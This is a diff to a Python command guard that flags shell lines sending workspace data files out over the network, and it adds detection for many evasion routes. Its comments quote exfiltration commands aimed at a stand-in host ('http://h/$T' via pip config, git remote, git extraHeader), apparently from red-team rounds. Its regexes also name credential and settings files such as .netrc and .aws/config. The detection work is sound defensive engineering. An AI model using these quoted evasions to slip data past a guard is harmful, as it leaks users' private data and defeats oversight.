@@ -6,8 +6,10 @@ Called by ``safety.commands``; findings use the policy's categories.
 
 from __future__ import annotations
 
+import itertools
 import posixpath
 import re
+from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from macrohard.safety import curlargs, lazyre, runners, spliced
@@ -138,6 +140,15 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name or its packets")
     if prog in _CONTACTS:  # rt54: `git clone "http://h/$T"`, `pip download -i "http://h/$T"`, `xdg-open`…
         _addresses(an, prog, args, [], cmd)
+    if (prog in _CONTACTS or prog in _CONFIGURED) and "config" in operands[:2] and not an.defining and (
+            ref := next((r for a in args if (r := setting_data(an, a))), "")):
+        # rt56: `pip config set global.index-url "http://h/$T"` (pip.conf), `npm config set`, `yarn config set`…:
+        # the program's own settings file, read by every later run of it, holds the text it sends
+        an.r.add("exfiltration", f"{prog} config keeps {ref} in its settings, which it sends (an index, a registry, "
+                                 "a proxy, a header)")
+    if prog == "git" and {"remote", "submodule"} & set(operands[:2]) and not an.defining and (
+            ref := next((r for a in operands if (r := setting_data(an, a))), "")):  # rt56: `git remote add x "http://h/$T"`
+        an.r.add("exfiltration", f"git keeps {ref} as a remote's address, which a later fetch or push asks for")
     if prog == "git":  # rt54: `git -c http.extraHeader="X: $(cat f)" ls-remote URL` sent the file's text
         headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-c" and
                    re.match(r"(?i)http\.(?:.*\.)?extraheader=", args[i + 1])]
@@ -194,6 +205,28 @@ def _luhn(digits: str) -> bool:
     return total % 10 == 0
 
 
+_GAP = lazyre.compile(r" {2,}")
+
+
+def _fixed_width(lines: list[str]) -> bool:
+    """rt56: a fixed-width table (``name    card`` over ``alice   SECRET-…``): lines that do not start indented, each
+    split by runs of two spaces or more into the same number (two or more) of fields, whose columns start (or end:
+    numbers are right-aligned) where the first line's do, on 80 % of the lines. Prose, code and lists are not."""
+    def columns(line: str) -> tuple[tuple[int, ...], tuple[int, ...]]:
+        gaps = list(_GAP.finditer(line.rstrip()))
+        return tuple(g.end() for g in gaps), tuple(g.start() for g in gaps)
+
+    if lines[0][:1].isspace():
+        return False
+    starts, ends = columns(lines[0])
+    if not starts:
+        return False
+    same = [columns(line) for line in lines if not line[:1].isspace()]
+    need = max(2, 0.8 * len(lines))
+    return sum(len(s) == len(starts) and (s == starts or e == ends) for s, e in same) >= need and \
+        sum(len(s) == len(starts) for s, _ in same) >= need
+
+
 def records_text(text: str) -> bool:
     """Whether ``text`` has the shape of records (``_DELIMITERS``' rows, JSON lines, e-mail addresses, a card
     number): a data file's text, whatever its file is called."""
@@ -204,6 +237,8 @@ def records_text(text: str) -> bool:
             if first and sum(line.count(d) == first for line in lines) >= max(2, 0.8 * len(lines)):
                 return True
         if sum(line.lstrip().startswith("{") and line.rstrip().endswith("}") for line in lines) >= 2:
+            return True
+        if _fixed_width(lines):
             return True
     if len(set(_EMAIL.findall(text))) >= 2:
         return True
@@ -243,15 +278,113 @@ def records_file(path: str) -> bool:
         return False
     key = (path, st.st_mtime_ns, st.st_size)
     if key not in _SHAPES:
-        data = native.read(path)
+        data = native.read(path, 65537)
+        if data is not None and data.startswith(_COMPRESSED):  # rt56: `zcat backup` of a csv.gz with no extension
+            data = _unpacked(data)
         _SHAPES[key] = data is not None and (data.startswith(_DATA_MAGIC) or b"\0" not in data[:65536] and (
-            records_text(data[:65536].decode("utf-8", "replace")) or _json_records(data)))
+            records_text(data[:65536].decode("utf-8", "replace")) or _json_records(data)) or
+            data.startswith(b"PK\x03\x04") and _spreadsheet(path) or data[257:262] == b"ustar" and _tar_data(data))
         if len(_SHAPES) > 4096:
             _SHAPES.clear()
     return _SHAPES[key]
 
 
-def named_records(an: Analyzer, text: str) -> str:
+_COMPRESSED = (b"\x1f\x8b", b"BZh", b"\xfd7zXZ\0")
+
+
+def _unpacked(data: bytes) -> bytes:
+    """The first 64 kB a gzip, bzip2 or xz stream's head unpacks to (as much as its first 64 kB give)."""
+    import bz2
+    import lzma
+    import zlib
+
+    try:
+        if data.startswith(b"\x1f\x8b"):
+            return zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(data, 65537)
+        if data.startswith(b"BZh"):
+            return bz2.BZ2Decompressor().decompress(data, 65537)
+        return lzma.LZMADecompressor().decompress(data, 65537)
+    except (OSError, EOFError, ValueError, zlib.error, lzma.LZMAError):
+        return b""
+
+
+def _tar_data(data: bytes) -> bool:
+    """rt56: a tar archive (its first 64 kB) whose members are data files (``DATA_KIND``) or hold records."""
+    at = 0
+    while at + 512 <= len(data) and data[at + 257:at + 262] == b"ustar":
+        name = data[at:at + 100].split(b"\0", 1)[0].decode("utf-8", "replace")
+        try:
+            size = int(data[at + 124:at + 136].strip(b"\0 ") or b"0", 8)
+        except ValueError:
+            return False
+        if DATA_KIND.fullmatch(name.rsplit("/", 1)[-1]) or \
+                records_text(data[at + 512:at + 512 + min(size, 65536)].decode("utf-8", "replace")):
+            return True
+        at += 512 + (size + 511) // 512 * 512
+    return False
+
+
+def _spreadsheet(path: str) -> bool:
+    """rt56: a zip that is a spreadsheet (xlsx's ``xl/``, an OpenDocument spreadsheet's ``mimetype``) or holds a data
+    file (``DATA_KIND`` but .xml: ``export.zip`` of ``customers.csv``), whatever the file is called (``book``,
+    ``book.txt``)."""
+    import zipfile
+
+    from macrohard.safety.regular import open_regular
+
+    try:
+        with open_regular(path, "rb") as fh, zipfile.ZipFile(fh) as z:
+            names = z.namelist()[:10000]
+            if any(n.startswith("xl/") or DATA_KIND.fullmatch(n.rsplit("/", 1)[-1]) and not n.lower().endswith(
+                    ".xml") for n in names):  # (a document's own parts are .xml: docx, odt, epub are not data)
+                return True
+            return "mimetype" in names and b"spreadsheet" in z.read("mimetype")[:200]
+    except (OSError, zipfile.BadZipFile, KeyError, ValueError, RuntimeError, EOFError):
+        return False
+
+
+_PROC_CWD = lazyre.compile(r"^/+proc/+(?:self|thread-self|\$\$|\$BASHPID|\d+|\*)(?:/+task/+[^/]+)?/+cwd(?=/|$)")
+_PROC_ROOT = lazyre.compile(r"^/+proc/+(?:self|thread-self|\$\$|\$BASHPID|\d+|\*)(?:/+task/+[^/]+)?/+root/+")
+_BRACES = lazyre.compile(r"\{([^{}\s$]*,[^{}\s$]*)\}")
+
+
+def _parsed_words(an: Analyzer, text: str) -> list[str]:
+    """rt56: the words of a line as bash reads them (quotes and backslashes gone: ``"cli""ents"``, ``cli''ents``,
+    ``cl\\ients``, ``$'cli\\x65nts'``; a brace list expanded: ``cli{e,x}nts``), each command's but its program's
+    name, and its redirects' targets. ``named_records`` read the line's text only, where such a name is pieces. Once
+    per line and text."""
+    from macrohard.safety.shellparse import parse
+
+    memo = an.__dict__.setdefault("parsed_words_memo", {})
+    if text not in memo:
+        try:
+            commands = parse(text).commands
+        except Exception:  # noqa: BLE001 - a line the parser cannot read: the other checks judge it
+            commands = []
+        remember_words(an, text, commands)
+    return memo[text]
+
+
+def remember_words(an: Analyzer, text: str, commands: list[SimpleCommand]) -> None:
+    """``_parsed_words`` of ``text`` from its parse (the analyzer's own, for the session's line: parsed once)."""
+    memo = an.__dict__.setdefault("parsed_words_memo", {})
+    if len(memo) > 64:
+        memo.clear()
+    words: list[str] = []
+    for cmd in commands:
+        for word in [*cmd.argv[1:], *(t for _, t in cmd.redirects)]:
+            if len(words) > 4096:
+                break
+            if (m := _BRACES.search(word)) and m.group(1).count(",") < 32:
+                words += [word[:m.start()] + alt + word[m.end():] for alt in m.group(1).split(",")]
+            words.append(word)
+            if "://" not in word and (":" in word or "=" in word):  # `git show HEAD:clients`, `--input=clients`
+                words.append(re.split(r"[:=]", word, maxsplit=1)[1])
+    memo[text] = words
+    an.__dict__.setdefault("parsed_cwds_memo", {})[text] = list(dict.fromkeys(c.cwd for c in commands if c.cwd))
+
+
+def named_records(an: Analyzer, text: str, code: bool = False) -> str:
     """The first workspace file a line's words name (a glob's matches, a word whose expansions are only known when it
     runs read as ``*`` beside its literal text: ``customers.$e``) that holds records (``records_file``); "" if none."""
     import glob
@@ -261,23 +394,43 @@ def named_records(an: Analyzer, text: str) -> str:
         return ""
     cwd = an.__dict__.get("top_cwd")
     bases = [an.paths.resolve(".", cwd)] + [an.paths.resolve(d, cwd) for d in _CD.findall(text) if "$" not in d]
+    _parsed_words(an, text)  # rt56: and each folder the parse followed the line to (`pushd sub`, `CDPATH=. cd sub`,
+    for folder in an.__dict__.get("parsed_cwds_memo", {}).get(text, [])[:16]:  # `builtin cd`); one only known when
+        if "$" in folder or "`" in folder:  # it runs (`cd "$(ls -d s*)"`) is any folder there
+            where = an.paths.resolve(re.sub(r"\$\([^)]*\)|\$\{?\w+\}?|`[^`]*`", "*", folder), cwd)
+            bases += [d for d in sorted(glob.glob(where))[:32] if os.path.isdir(d)]
+        else:
+            bases.append(an.paths.resolve(folder, cwd))
     seen: set[str] = set()
     globs = 0
-    for m in _PATH_WORD.finditer(text):
-        word = m.group(0)
+
+    def raw_words() -> Iterator[str]:
+        for m in _PATH_WORD.finditer(text):
+            before = text[:m.start()]  # (a program's name: `export`, `sed`, is no file it reads)
+            if not (_COMMAND_PLACE if len(before) <= 200 else _COMMAND_PLACE_LATE).search(before[-200:]):
+                yield m.group(0)
+
+    here = an.paths.resolve(".", cwd)
+    for word in itertools.chain(raw_words(), _parsed_words(an, text)):
+        if word.lower().startswith("file:"):  # rt56: `curl -s file:///ws/clients` reads the file
+            word = re.sub(r"(?i)^file:(?://(?:localhost|127\.0\.0\.1)?(?=[/$]))?", "", word)
         if "://" in word or word.startswith("-") or word in seen:
             continue
-        before = text[:m.start()]  # (a program's name: `export`, `sed`, is no file it reads)
-        if (_COMMAND_PLACE if len(before) <= 200 else _COMMAND_PLACE_LATE).search(before[-200:]):
-            continue
         seen.add(word)
-        pattern = _ANY_EXPANSION.sub(lambda e: an.line_vars.get(e.group(0).strip("${}"), "*"), word) \
-            if "$" in word else word
+        if names_data(word):
+            return f"{word[:60]}"
+        pattern = _ANY_EXPANSION.sub(lambda e: an.line_vars.get(e.group(0).strip("${}"), here if e.group(0).strip(
+            "${}") == "PWD" else "*"), word) if "$" in word else word  # rt56: `"$PWD/clients"`, `file://$PWD/…`
+        if pattern.startswith("/"):  # rt56: `/proc/self/cwd/clients` is the shell's folder's; `/tmp/../ws/clients`
+            pattern = _PROC_ROOT.sub("/", _PROC_CWD.sub(here.replace("\\", "\\\\"), pattern))
+            pattern = os.path.normpath(pattern) if any(c in pattern for c in "*?[") else os.path.realpath(pattern)
         if not pattern.strip("*/.~") or pattern.startswith("~") or pattern.startswith("/") and not any(
-                pattern.startswith(ws + "/") for ws in an.paths.workspaces):
+                pattern == ws or pattern.startswith(ws + "/") for ws in an.paths.workspaces):
             continue  # nothing but a glob, or outside the workspace
         if any(c in pattern for c in "*?["):
             globs += 1
+            if globs > 64 and code:  # code the line runs (`x[0]`, `a*b` in python are no globs): past 64, not read
+                continue
             if globs > 64:  # a line of many globs: the guard does not read every match (linear time)
                 return f"{word[:60]} (more globs than the guard reads)"
         wheres = [pattern] if pattern.startswith("/") else [os.path.join(b, pattern) for b in dict.fromkeys(bases)]
@@ -289,14 +442,138 @@ def named_records(an: Analyzer, text: str) -> str:
     return ""
 
 
+# rt56 (rt55's left-open): interpreter code that opens a file by a name it builds when it runs (python's adjacent
+# literals or `chr(99)`, an f-string, `os.listdir()`, a glob, node's `"customers."+"csv"`, perl's `open F, EXPR`,
+# awk's `getline < f`): the line names no file, so no rule read it as taking from one. An open whose argument is not
+# one plain string literal, or a listing of a folder's names, may open any file there
+_OPENS = (r"open|readFileSync|readFile|createReadStream|read_text|read_bytes|read_csv|read_excel|read_json|read_table|"
+          r"read_parquet|read_fwf|loadtxt|genfromtxt|fromfile|fopen|file_get_contents|file|readlines|foreach|"
+          r"fileinput\.input|connect|ZipFile|TarFile\.open|load_workbook|readLines|read\.csv|slurp|lines|"
+          r"(?:File|IO|Files|fs|fsp|Deno)\.(?:read\w*|lines|newBufferedReader|newInputStream)")
+_BUILT_OPEN = lazyre.compile(
+    r"(?<![\w$-])(?:" + _OPENS + r")\s*\(\s*(?![)\s])(?!(?:sys\.argv|process\.argv|\$?ARGV)\s*\[\s*\d+\s*\]\s*[,)])(?!(?:[rbuRBU]{1,2})?(?P<q>['\"])(?:(?!(?P=q))[^\\${}`])*(?P=q)\s*[,)])"
+    r"|(?<![\w$-])(?:listdir|scandir|readdirSync|readdir|iglob|rglob|glob|walk|opendir|entries|each_child|children|"
+    r"iterdir|listFiles|list_files|Dir\.glob|Dir\.entries|"
+    r"Files\.list|Files\.walk|glob\.sync|globSync)\b\s*\("
+    r"|\bopen\s*\(?\s*(?:my\s+)?\$?\w+\s*,\s*(?:(?P<m>['\"])[<+]*(?P=m)\s*,\s*)?(?!(?P<q2>['\"])[<+]?[^'\"$@]*(?P=q2)\s*[;)])"
+    r"|\bgetline\b[^;}<|]*<\s*(?!\"[^\"]*\"\s*(?:[;)}]|$))"
+    # python's opener under another name (`o=open; o(…)`, `map(open, …)`) or reached by a built name (`getattr(b,
+    # "op"+"en")`)
+    r"|(?<![\w$.'\"-])open\b(?!\s*\()(?![\w'\"-])|\bgetattr\s*\(\s*[^,()]+,(?!\s*(?P<q3>['\"])\w*(?P=q3)\s*[,)])"
+    r"|<\*[^>]*>|\bglob\s*\(")
+# an open of the program's own argument (`open(sys.argv[1])`): the line's words name the file, judged as they are
+# (``named_records``), unless a word after the code is only known when it runs (`"$(ls | grep ^cl)"`, `"$f"`)
+_ARGV_OPEN = lazyre.compile(r"(?<![\w$-])(?:" + _OPENS + r")\s*\(\s*(?:sys\.argv|process\.argv|\$?ARGV)\s*\[")
+_CODE_THEN_WORDS = lazyre.compile(r"\s-[ceE]\s*(?:'[^']*'|\"(?:\\.|[^\"\\])*\")((?:\s+[^\s;&|)]+)*)")
+_INTERPRETED = lazyre.compile(r"(?<![\w.-])(?:python[\d.]*|pypy3?|node|nodejs|deno|bun|perl|ruby|php|lua\w*|awk|gawk|mawk|"
+                              r"nawk|Rscript|julia|tclsh|osascript|jshell|groovy|scala|kotlin|ipython3?)\b")
+# rt56: programs that read each file under a folder they are given (`grep -rh SECRET .`), the line's folder when given
+# none: a data file there is read as if the line named it
+_RECURSIVE = lazyre.compile(r"(?<![\w.-])(?:[ezf]?grep\b[^;&|]*\s-(?:-recursive|-dereference-recursive|[a-zA-Z]*[rR]|d\s*"
+                            r"recurse|-directories=recurse)|(?:rg|ag|ack|ack-grep|ugrep|ripgrep)\b"
+                            # an archive made of a folder (`tar cf - .`, `zip -r - .`, 7z, cpio)
+                            r"|tar\b[^;&|)]*\s(?:-[a-zA-Z]*c|c[a-zA-Z]*\b|--create)|zip\b[^;&|)]*\s-[a-zA-Z]*r|7z\s+a\b|"
+                            r"cpio\b[^;&|)]*\s-[a-zA-Z]*o"
+                            # git printing the text of the repository's files: grep, archive, a commit's or the work
+                            # tree's patch, an object
+                            r"|git\b(?:\s+-[Cc]\s+\S+)*\s+(?:grep|archive|cat-file|format-patch|bundle|stash\s+show\s+[^;&|)]*-p|"
+                            r"show(?![^;&|)]*\s(?:(?:-s|--no-patch|--stat|--name-only|--name-status|--shortstat|--numstat)\b|"
+                            r"[^\s:;&|)-][^\s:;&|)]*:[^\s;&|)]))|"  # (`git show REV:PATH` prints that file alone)
+                            r"log\b[^;&|)]*\s(?:-p|-u|--patch)\b|"
+                            r"diff(?![^;&|)]*\s(?:--stat|--name-only|--name-status|--shortstat|--numstat|--quiet)\b)))")
+_SKIPPED_DIRS = frozenset({".git", "node_modules", ".venv", "venv", "__pycache__", ".mypy_cache", ".pytest_cache",
+                           ".tox", ".ruff_cache"})
+_UNDER_MAX = 2000  # files looked at under one folder; past it the folder is taken to hold data
+
+
+def data_under(an: Analyzer, folder: str) -> str:
+    """The first data file under ``folder`` (absolute, in the workspace): one ``DATA_KIND`` names or whose text holds
+    records (``records_file``); "" if none. Past ``_UNDER_MAX`` files the folder is taken to hold one. Tool caches
+    (``_SKIPPED_DIRS``) are not read. Once per line and folder."""
+    import os
+
+    memo = an.__dict__.setdefault("data_under_memo", {})
+    key = (str(getattr(an, "top_line", "")), folder)
+    if key in memo:
+        return memo[key]
+    found, n = "", 0
+    for dirpath, dirnames, filenames in os.walk(folder):
+        dirnames[:] = sorted(d for d in dirnames if d not in _SKIPPED_DIRS)
+        for name in sorted(filenames):
+            n += 1
+            path = os.path.join(dirpath, name)
+            if n > _UNDER_MAX:
+                found = f"{os.path.relpath(folder, an.paths.workspaces[0])} (more files than the guard reads)"
+                break
+            if names_data(name) or records_file(path):
+                found = os.path.relpath(path, an.paths.workspaces[0])
+                break
+        if found:
+            break
+    if len(memo) > 64:
+        memo.clear()
+    memo[key] = found
+    return found
+
+
+def built_names(an: Analyzer, text: str) -> str:
+    """rt56: a data file a line may read by a name only known when it runs: interpreter code on the line (or in a
+    script the line runs: ``line_code``) that opens a file by a name it builds (``_BUILT_OPEN``) may open any data
+    file of the workspace; a recursive reader (``_RECURSIVE``) reads each file under the folders it names (the line's
+    folder when it names none). "" if none."""
+    import os
+
+    if not an.paths.workspaces:
+        return ""
+    codes = [text, *an.__dict__.get("line_code", ())]
+    plain = [c.replace('\\"', '"') for c in codes]
+    built = any(_BUILT_OPEN.search(c) for c in plain) or any(_ARGV_OPEN.search(c) for c in plain) and any(
+        "$" in m.group(1) or "`" in m.group(1) for m in _CODE_THEN_WORDS.finditer(text))
+    if built and (
+            any(_INTERPRETED.search(c) for c in plain[:1]) or len(plain) > 1):
+        if found := data_under(an, an.paths.workspaces[0]):
+            return f"{found} (code on the line opens files by names it builds)"
+    if _RECURSIVE.search(text):
+        cwd = an.paths.resolve(".", an.__dict__.get("top_cwd"))
+        folders = [f for m in _PATH_WORD.finditer(text) if not m.group(0).startswith("-") and "$" not in m.group(0)
+                   and os.path.isdir(f := os.path.normpath(os.path.join(cwd, m.group(0))))
+                   and any(f == ws or f.startswith(ws + "/") for ws in an.paths.workspaces)]
+        for folder in dict.fromkeys(folders or [cwd]):
+            if found := data_under(an, folder):
+                return f"{found} (read by a program that reads every file under {os.path.relpath(folder, cwd)})"
+    return ""
+
+
+def code_data(an: Analyzer) -> str:
+    """rt56: a data file that code the line runs names (a script, a workspace program's source the guard reads:
+    ``T=$(python3 r.py)`` where r.py opens ``clients``): the line takes from it as if it named it. Once per line and
+    piece of code."""
+    memo = an.__dict__.setdefault("code_data_memo", {})
+    for code in an.__dict__.get("line_code", ()):
+        key = (str(getattr(an, "top_line", "")), code)
+        if key not in memo:
+            if len(memo) > 256:
+                memo.clear()
+            memo[key] = (f"{found} (named in code the line runs)" if (found := names_data(code) or
+                                                                     named_records(an, code, code=True)) else "")
+        if memo[key]:
+            return memo[key]
+    return ""
+
+
 def line_data(an: Analyzer, text: str) -> str:
     """The data file a line's text takes from: one it names (``DATA_KIND``), a workspace file it names whose text has
     the shape of records (``named_records``), a file an earlier line that carried such text wrote
     (``shellvalues.data_file``), or a name it expands that may hold such text; "" if none."""
     from macrohard.safety.shellvalues import FILE, may_hold_data
 
-    if found := names_data(text) or named_records(an, text):
+    if found := names_data(text) or named_records(an, text) or built_names(an, text) or code_data(an):
         return found
+    for m in _FD_USE.finditer(text):  # rt56: a descriptor the session opened on a data file (`exec 3< clients`)
+        fd = m.group(1) or m.group(2)
+        if FD + fd in an.values.deps or FD + "{}" in an.values.deps and (not fd.isdigit() or int(fd) >= 10) or \
+                not fd.isdigit() and any(k.startswith(FD) for k in an.values.deps):
+            return f"descriptor {fd} (opened on a data file)"
     marked = [k[len(FILE):] for k in an.values.deps if k.startswith(FILE)]
     for path in marked:
         if posixpath.basename(path) in text:
@@ -305,6 +582,51 @@ def line_data(an: Analyzer, text: str) -> str:
         if may_hold_data(an.values, m.group(2) or m.group(3)):
             return f"${m.group(2) or m.group(3)} (a data file's text)"
     return ""
+
+
+FD = "!fd:"  # a key of ``deps``: a descriptor the session's shell keeps open on a data file (`exec 3< clients`)
+# a descriptor read: `read -u 3`, `-u3`, `<&3`, `0<&3`, /dev/fd/3, /proc/self/fd/3
+_FD_USE = lazyre.compile(r"(?:^|\s)-\w*u\s*\"?(\d+|\$\{?\w+)|(?:<&|/dev/fd/|/proc/(?:self|\$\$|\d+)/fd/)\s*\"?(\d+|\$\{?\w+)")
+
+
+def mark_descriptors(an: Analyzer, text: str) -> None:
+    """rt56: an ``exec`` with no command, on a line that takes from a data file, opens descriptors the session keeps:
+    each one it opens for reading is marked (``FD``), so a later step's ``read -u 3 T`` takes from the data file as
+    ``read -r T < clients`` does (``line_data``). A descriptor ``exec 3<&-`` closes stays marked (marks only grow)."""
+    for m in _EXEC_REDIRECTS.finditer(text):
+        for fd in re.findall(r"(?<![\w&])(\d+)<>?(?!&)", m.group(1)):
+            if fd not in ("1", "2"):
+                an.values.deps[FD + fd] = {"!data"}
+        if re.search(r"\{\w+\}<", m.group(1)):  # `exec {fd}< clients`: bash picks a descriptor of 10 or more
+            an.values.deps[FD + "{}"] = {"!data"}
+
+
+_EXEC_REDIRECTS = lazyre.compile(r"(?<![\w-])exec((?:\s+(?:\{?\w*\}?|\d*)[<>]+&?-?\s*[^\s;&|<>]+)+)")
+
+
+# rt56: files a network program reads its settings from by itself, by their place (its folder, a parent, the home):
+# an index, a registry, a proxy, a remote, a login. Written on a line that takes from a data file, the program sends
+# that text at its next run (uv.toml's index-url, .condarc's channel_alias, .cargo/config.toml's proxy, .git/config's
+# remote were approved; .npmrc, .curlrc, .netrc… were held by other rules)
+_SETTINGS_FILE = lazyre.compile(
+    r"(?:^|/)(?:\.npmrc|\.yarnrc(?:\.yml)?|\.pnpmrc|pip\.conf|pip\.ini|\.pypirc|uv\.toml|pyproject\.toml|poetry\.toml|"
+    r"\.condarc|condarc|\.mambarc|\.curlrc|_curlrc|\.wgetrc|\.netrc|_netrc|\.gitconfig|\.gitmodules|\.hgrc|\.gemrc|"
+    r"\.bowerrc|bunfig\.toml|deno\.jsonc?|package\.json|composer\.json|auth\.json|Pipfile|requirements[\w.-]*\.txt|"
+    r"constraints[\w.-]*\.txt|gradle\.properties|\.terraformrc|"
+    r"\.docker/config\.json|\.cargo/config(?:\.toml)?|\.ssh/config|\.git/config|\.git/modules/.*/config|\.bundle/config|"
+    r"\.m2/settings\.xml|\.config/(?:pip|uv|gh|git|pypoetry|containers|helm|rclone)/[^/]+|\.pip/pip\.conf|"
+    r"\.gem/credentials|\.aws/config|\.kube/config|\.gradle/init\.gradle)$")
+
+
+def settings_written(an: Analyzer, text: str) -> None:
+    """rt56: a line that takes from a data file (``line_data``) and writes a network program's settings file
+    (``_SETTINGS_FILE``): that program sends the text at its next run; refused where it is written, as a network
+    setting in the environment is (rt55)."""
+    for path in dict.fromkeys(an.written):
+        if not any(c in path for c in "*?[$") and _SETTINGS_FILE.search(path) and (ref := line_data(an, text)):
+            an.r.add("exfiltration", f"writes {posixpath.basename(path)}, a network program's settings, on a line that "
+                                     f"takes from {ref}: the program sends them")
+            return
 
 
 def data_value(an: Analyzer, word: str) -> str:
@@ -356,6 +678,8 @@ def _addresses(an: Analyzer, prog: str, args: list[str], operands: list[str], cm
 
 
 _HTTPIE = frozenset({"http", "https", "xh", "xhs"})
+_CONFIGURED = frozenset({"conda", "mamba", "poetry", "pdm", "hatch", "bundle", "bundler", "gem", "pipenv", "twine",
+                         "deno", "bun", "dotnet", "nuget", "mvn", "gradle", "sbt", "conan", "vcpkg", "rustup"})
 # rt54: programs that look up a name they are given (the name itself leaks: DNS), and programs besides curl and wget
 # that ask for the address they are given (a value in its path goes out in the request)
 _RESOLVERS = frozenset({"dig", "nslookup", "host", "ping", "ping6", "drill", "getent", "traceroute", "tracepath", "mtr",
